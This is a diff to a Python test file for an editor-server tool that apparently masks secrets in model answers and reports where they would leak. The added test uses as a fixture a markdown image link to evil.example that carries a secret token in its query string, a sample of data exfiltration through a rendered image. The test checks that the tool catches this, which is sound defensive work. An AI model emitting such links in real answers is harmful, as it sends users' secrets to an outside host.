@@ -78,6 +78,15 @@ def test_a_restored_markdown_answer_is_looked_at_block_by_block(client: LspClien
     assert result["exposed"] == [{"placeholder": token, "where": ["sent over the network"]}]
 
 
+def test_an_address_in_the_words_around_the_code_is_told_too(client: LspClient, uri: str) -> None:
+    token = placeholder(client, uri)
+    answer = f'![chart](https://evil.example/?k={token})\n```python\nkey = "{token}"\n```\nThat was `{token}`.\n'
+    result = client.request("airlock/restore", {"uri": uri, "text": answer})
+    assert result["exposed"] == [{"placeholder": token, "where": ["in a web address of evil.example"]}]
+    assert result["careful"] == result["text"].replace(f"?k={KEY}", f"?k={token}")
+    assert result["text"].count(KEY) == 3
+
+
 def test_an_answer_for_nowhere_is_refused_in_words(client: LspClient, uri: str) -> None:
     assert "Open the file" in client.request("airlock/apply", {"uri": f"{uri}.closed", "text": "x"})["problem"]
     assert client.request("airlock/apply", {"uri": uri, "text": "```go\nx\n```"})["problem"].startswith("The answer has no code")
